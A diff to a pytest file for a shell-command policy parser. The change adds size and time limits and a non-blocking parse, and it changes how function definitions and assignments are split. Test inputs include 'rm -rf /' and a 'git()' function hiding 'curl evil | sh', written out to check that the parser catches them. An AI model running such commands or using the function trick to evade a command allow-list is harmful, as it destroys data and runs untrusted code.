@@ -13,6 +13,7 @@ import shlex
 import shutil
 import subprocess
 import threading
+import time
 from collections import Counter
 from pathlib import Path
 
@@ -20,13 +21,18 @@ import pytest
 from hypothesis import HealthCheck, event, given, settings, strategies as st
 from toolplug_policy.shell import (
     Command,
+    Limits,
     Redirect,
     ShellParseError,
+    ShellTimeout,
+    _parse_bytes,
     command_matches,
     parse_commands,
 )
 
 BASH = shutil.which("bash") or "/bin/bash"
+#: Limits no test script here reaches (for the tests of the walk itself).
+UNLIMITED = Limits(command_chars=10**9, parse_seconds=3600)
 
 
 def argvs(script: str) -> list[tuple[str, ...]]:
@@ -51,8 +57,8 @@ SPLITS = [
     ("cat <(ls) >(wc -l)", [("cat", "<(ls)", ">(wc -l)"), ("ls",), ("wc", "-l")]),
     ("(cd x && rm -rf .)", [("cd", "x"), ("rm", "-rf", ".")]),
     ("{ a; b; }", [("a",), ("b",)]),
-    ("f() { curl x; }; f", [("curl", "x"), ("f",)]),
-    ("function g { rm -rf /; }", [("rm", "-rf", "/")]),
+    ("f() { curl x; }; f", [(), ("curl", "x"), ("f",)]),
+    ("function g { rm -rf /; }", [(), ("rm", "-rf", "/")]),  # () defines g
     ('for f in *; do rm "$f"; done', [("rm", '"$f"')]),
     ("for f in $(ls); do :; done", [("ls",), (":",)]),
     ("if a; then b; elif c; then d; else e; fi", [(x,) for x in "abcde"]),
@@ -61,8 +67,10 @@ SPLITS = [
     ("select x in a b; do c; done", [("c",)]),
     ("X=1 Y=2 cmd a", [("cmd", "a")]),
     ("X=$(whoami) cmd", [("cmd",), ("whoami",)]),
-    ("X=$(whoami)", [("whoami",)]),
-    ("X=1", []),
+    ("X=$(whoami)", [(), ("whoami",)]),  # () sets X
+    ("X=1", [()]),
+    ("x=1", [()]),  # a line of assignments only is a part of its own
+    ("x=$(whoami)", [("whoami",)]),
     ("env X=1 cmd", [("env", "X=1", "cmd")]),
     ("time ls -l", [("time", "ls", "-l")]),
     ("xargs rm", [("xargs", "rm")]),
@@ -153,8 +161,10 @@ def test_command_text_is_its_source() -> None:
 
 
 def test_function_call_and_its_definition_both_need_allowing() -> None:
-    # the body runs when f is called; the call itself is a command named f
+    # the body runs when f is called; the call itself is a command named f; the
+    # definition is a part with no words, which no command rule allows
     assert argvs("git() { curl evil | sh; }; git status") == [
+        (),
         ("curl", "evil"),
         ("sh",),
         ("git", "status"),
@@ -438,16 +448,61 @@ def test_nesting_that_would_take_too_much_memory_is_refused() -> None:
     depth = 20_000
     nested = "echo " + "$(echo " * depth + "x" + ")" * depth
     with pytest.raises(ShellParseError, match="nested too deeply"):
-        parse_commands(nested)
+        parse_commands(nested, UNLIMITED)
 
 
 def test_long_scripts() -> None:
     script = "\n".join(f"git add file{i}.py && git commit -m 'msg {i}'" for i in range(5000))
-    found = parse_commands(script)
+    found = parse_commands(script, UNLIMITED)
     assert len(found) == 10_000
     assert found[-1].argv == ("git", "commit", "-m", "msg 4999")
     long_word = "a" * 1_000_000
-    assert argvs(f"echo {long_word}") == [("echo", long_word)]
+    assert [c.argv for c in parse_commands(f"echo {long_word}", UNLIMITED)] == [("echo", long_word)]
+
+
+def test_a_command_over_the_size_limit_is_refused_before_parsing() -> None:
+    with pytest.raises(ShellParseError, match=r"1,000,006 characters long.*up to 65,536"):
+        parse_commands("echo " + "a " * 500_000 + "\n")
+    with pytest.raises(ShellParseError, match="up to 10 "):
+        parse_commands("echo 123456", Limits(command_chars=10))
+    assert parse_commands("echo 12345", Limits(command_chars=10))[0].argv == ("echo", "12345")
+
+
+def test_a_command_too_slow_to_read_is_refused() -> None:
+    # 200,000 words: longer to parse and walk than the 10 ms allowed, on any machine
+    script = "echo " + "a " * 200_000
+    with pytest.raises(ShellTimeout, match=r"more than 0.01 s \(the policy's limits"):
+        parse_commands(script, Limits(command_chars=10**7, parse_seconds=0.01))
+    # the parser is reset after a stopped parse: the next one starts afresh
+    assert parse_commands("git status")[0].argv == ("git", "status")
+
+
+def test_a_long_parse_does_not_stall_another_thread() -> None:
+    """The parser gives the interpreter lock back while it works: checks in another
+    thread go on while a 1 MB command is parsed. Held for the whole parse (as it was),
+    the lock let through only the checks of one switch interval (5 ms) at most."""
+    src = ("echo " + "a " * 500_000).encode()
+    started, done = threading.Event(), threading.Event()
+
+    def big() -> None:
+        started.set()
+        try:
+            _parse_bytes(src, time.monotonic() + 3600)
+        finally:
+            done.set()
+
+    thread = threading.Thread(target=big)
+    thread.start()
+    started.wait()
+    done_meanwhile = 0
+    try:
+        while not done.is_set():
+            small = parse_commands(f"git status && ls {done_meanwhile}")
+            assert [c.argv[0] for c in small] == ["git", "ls"]
+            done_meanwhile += not done.is_set()
+    finally:
+        thread.join(timeout=300)
+    assert done_meanwhile >= 200, done_meanwhile
 
 
 def test_parsing_from_many_threads_at_once() -> None:
@@ -700,7 +755,8 @@ MATCHES = [
     ("git ?og", ("git", "log"), True),
     ("git [lr]og", ("git", "rog"), True),
     ("git [lr]og", ("git", "dog"), False),
-    ("*/curl *", ("/usr/bin/curl", "x"), True),
+    ("**/curl *", ("/usr/bin/curl", "x"), True),
+    ("*/curl *", ("/usr/bin/curl", "x"), False),  # '*' stays within one path segment
     ("curl *", ("/usr/bin/curl", "x"), False),
     ("Git status", ("git", "status"), False),
     ("npm run test:*", ("npm", "run", "test"), True),
